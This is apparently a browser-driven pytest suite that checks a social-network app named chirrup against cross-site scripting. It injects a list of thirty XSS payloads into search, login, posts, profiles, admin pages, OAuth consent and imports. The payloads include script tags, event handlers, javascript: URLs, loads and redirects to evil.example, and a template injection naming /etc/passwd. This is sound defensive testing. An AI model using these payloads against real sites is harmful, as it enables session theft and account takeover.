"""Three hundred ways to inject a script, opened in a real browser.

No script may run, none may even be stopped by the policy (it would have been injected), and a post may have only the
elements of markup.to_html().
"""

import html
from urllib.parse import parse_qs, quote, urlencode, urlsplit

import pytest
from browser import Watched, somebody
from client import Person, Server
from playwright.async_api import Browser, Page
from visitor import Visitor, logged_in

from chirrup.ports import Engines
from chirrup.social import accounts

pytestmark = pytest.mark.slow

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x",
    "<details open ontoggle=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)//https://example.org",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    '<a hx-get="/nope" hx-trigger="load">x</a>',
    '<div hx-on:htmx:load="alert(1)" data-hx-on="x">',
    "{{ 7*7 }}{% include '/etc/passwd' %}${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]

# The problems of the document.
EXAMINE = """() => {
    const wrong = [];
    const ours = "script[src^='/static/'], svg.icon, svg.icon *, form[action^='/'], form[action='']";
    const all = "script, iframe, object, embed, base, svg, math, style, form, meta[http-equiv], [style]";
    for (const one of document.querySelectorAll(all)) if (!one.matches(ours)) wrong.push(one.outerHTML.slice(0, 200));
    for (const one of document.querySelectorAll(".content *"))
        if (!["P", "BR", "A", "SPAN"].includes(one.tagName)) wrong.push(one.outerHTML.slice(0, 200));
    for (const one of document.querySelectorAll("*"))
        for (const attribute of one.attributes) {
            if (/^on/i.test(attribute.name) || /^(data-)?hx-on/i.test(attribute.name)) wrong.push(attribute.name);
            if (/^(href|src|action|formaction)$/i.test(attribute.name)
                && !/^(\\/(?!\\/)|https?:\\/\\/|#|\\?|$)/.test(attribute.value)) wrong.push(attribute.value);
        }
    for (const one of document.querySelectorAll(".content [hx-get], .content [data-hx-get], .content form"))
        wrong.push(one.outerHTML);
    return wrong;
}"""

REFLECTED = {
    "search": "/search?q={}",
    "hashtag": "/tags/{}",
    "share": "/compose?text={}",
    "back": "/login?again=1&return_to={}",
    "code": "/oauth/authorize/native?code={}",
}
OOB = "urn:ietf:wg:oauth:2.0:oob"
STORED = ("text", "warning", "note", "table")


def test_there_are_three_hundred_vectors():
    assert len(PAYLOADS) * (len(REFLECTED) + len(STORED) + len(("login form",))) == 300


async def wrongs(page: Page, watched: Watched) -> list[str]:
    """Everything on the page, or done by it, that is not allowed."""
    await page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    noise = "Failed to load resource: the server responded with a status of 4"
    found = [wrong for wrong in watched.wrongs if noise not in wrong]
    watched.wrongs.clear()
    return found + await page.evaluate(EXAMINE)


async def opened(chromium: Browser, anns: Visitor) -> tuple[Watched, Page]:
    """A page of a browser in which Ann is logged in."""
    watched = await somebody(chromium, anns.url)
    await watched.context.add_cookies([{"name": "chirrup", "value": anns.cookie, "url": anns.url}])
    return watched, await watched.page()


@pytest.mark.parametrize("where", REFLECTED)
async def test_no_address_makes_a_script_run(chromium: Browser, anns: Visitor, where: str):
    watched, page = await opened(chromium, anns)
    for payload in PAYLOADS:
        await page.goto(REFLECTED[where].format(quote(payload, safe="")))
        assert await wrongs(page, watched) == [], payload


async def test_no_login_form_makes_a_script_run(chromium: Browser, server):
    watched = await somebody(chromium, server.url)
    page = await watched.page()
    for payload in PAYLOADS:
        await page.goto("/login")
        await page.fill("[name=email]", payload)
        await page.fill("[name=password]", "x")
        await page.click("button")
        assert await page.input_value("[name=email]") == payload
        assert await wrongs(page, watched) == [], payload


async def test_no_post_makes_a_script_run(chromium: Browser, anns: Visitor, ann: Person):
    for payload in PAYLOADS:
        ann.say(payload)
        ann.say("x", spoiler_text=payload)
    watched, page = await opened(chromium, anns)
    seen = 0
    await page.goto(f"/@{ann.name}/with_replies")
    while True:
        assert await wrongs(page, watched) == []
        seen += await page.locator("article.post").count()
        older = page.locator("a.older")
        if not await older.count():
            break
        await page.goto(f"/@{ann.name}/with_replies{await older.get_attribute('href')}")
    assert seen == 2 * len(PAYLOADS)

    newest = page.url.split("?")[0]
    await page.goto(newest)
    await page.locator("article.post .when a").first.click()
    assert await wrongs(page, watched) == []


async def test_no_profile_makes_a_script_run(chromium: Browser, server, anns: Visitor, ann: Person, bob: Person):
    of_bob = logged_in(server, bob)
    watched, page = await opened(chromium, anns)
    for payload in PAYLOADS:
        fields = {"field_name": payload, "field_value": payload, "display_name": payload[:27], "discoverable": "1"}
        assert of_bob.post("/settings", note=payload, **fields).status_code == 303
        await page.goto(f"/@{bob.name}")
        assert await wrongs(page, watched) == [], payload


async def test_no_poll_and_no_description_makes_a_script_run(chromium: Browser, anns: Visitor, ann: Person):
    short = [payload for payload in PAYLOADS if len(payload) <= 50]
    for at in range(0, len(short) - 1, 2):
        ann.say("poll", poll={"options": short[at : at + 2], "expires_in": 3600})
    watched, page = await opened(chromium, anns)
    await page.goto(f"/@{ann.name}")
    assert await wrongs(page, watched) == []
    assert await page.locator("article .option").count() == len(short) // 2 * 2


@pytest.fixture
def told(server: Server) -> tuple[Person, Person, str]:
    """(one of the staff, whom every word is about, a report): what people write to staff, and they to people."""
    boss, good, bad = server.admin(), server.person(), server.person()
    for payload in PAYLOADS:
        assert good.post("/api/v1/reports", account_id=bad.id, comment=payload).ok
        assert boss.post(f"/api/v1/admin/accounts/{bad.id}/action", type="none", text=payload).ok
        strike = bad.get("/api/chirrup/v1/strikes").json()[0]["id"]
        assert bad.post(f"/api/chirrup/v1/strikes/{strike}/appeal", text=payload).ok

    async def sign_up(engines: Engines) -> None:
        for n, payload in enumerate(PAYLOADS):
            name = f"w{bad.id[-9:]}_{n}"
            wanted = accounts.SignUp(name, f"{name}@example.com", "-", pending=True, reason=payload)
            await engines.db.write(accounts.create, wanted)

    server.do(sign_up)
    return boss, bad, boss.get("/api/v1/admin/reports").json()[0]["id"]


async def test_no_word_for_staff_makes_a_script_run(
    chromium: Browser, server: Server, told: tuple[Person, Person, str]
):
    boss, bad, report = told
    watched, page = await opened(chromium, logged_in(server, boss))
    lists = ("/admin/reports", "/admin/appeals", "/admin/sign-ups", "/org/audit")

    for path in (*lists, f"/admin/accounts/{bad.id}", f"/admin/reports/{report}"):
        await page.goto(path)
        assert await wrongs(page, watched) == [], path
        assert path not in lists or await page.get_by_text("{{ 7*7 }}").count()


async def test_no_filter_draft_import_or_app_makes_a_script_run(
    chromium: Browser, anns: Visitor, ann: Person, bob: Person
):
    """All payloads at once on each page."""
    ann.follow(bob)
    bob.say("a crow")
    csrf = anns.csrf()
    app = {"redirect_uris": OOB, "scopes": "read"}
    for payload in PAYLOADS:
        context = {"context": ["home"], "keywords_attributes": [{"keyword": "crow"}, {"keyword": payload}]}
        assert ann.post("/api/v2/filters", title=payload, **context).ok
        assert ann.post("/api/chirrup/v1/drafts", status=payload, spoiler_text=payload).ok
        client = ann.post("/api/v1/apps", client_name=payload[:60], website="https://example.com", **app).json()
        let_in = {"client_id": client["client_id"], "redirect_uri": OOB, "response_type": "code", "scope": "read"}
        consent = anns.get("/oauth/authorize", params=let_in)
        assert html.escape(payload[:60]) in consent.text.replace("&#34;", "&quot;").replace("&#39;", "&#x27;")
        shown = anns.send("/oauth/authorize", let_in | {"csrf": csrf, "decision": "allow"}).headers["Location"]
        code = parse_qs(urlsplit(shown).query)["code"][0]
        proof = {name: client[name] for name in ("client_id", "client_secret")}
        assert bob.post("/oauth/token", grant_type="authorization_code", code=code, redirect_uri=OOB, **proof).ok
    rows = "\n".join(f'"{payload.replace(chr(34), chr(34) * 2)}"' for payload in PAYLOADS)
    files = {"table": (f"{PAYLOADS[0]}.csv", rows, "text/csv")}
    assert anns.send("/settings/data", {"csrf": csrf, "kind": "following"}, files=files).status_code == 303
    watched, page = await opened(chromium, anns)

    for path, held in (
        ("/settings/filters", "alert(1)"),
        ("/home", "alert(1)"),
        ("/drafts", "alert(1)"),
        ("/settings/access", "alert(1)"),
        ("/settings/data", "following"),
        (f"/oauth/authorize?{urlencode(let_in)}", "noscript"),
    ):
        await page.goto(path)
        assert held in await page.inner_text("body"), path
        assert await wrongs(page, watched) == [], path
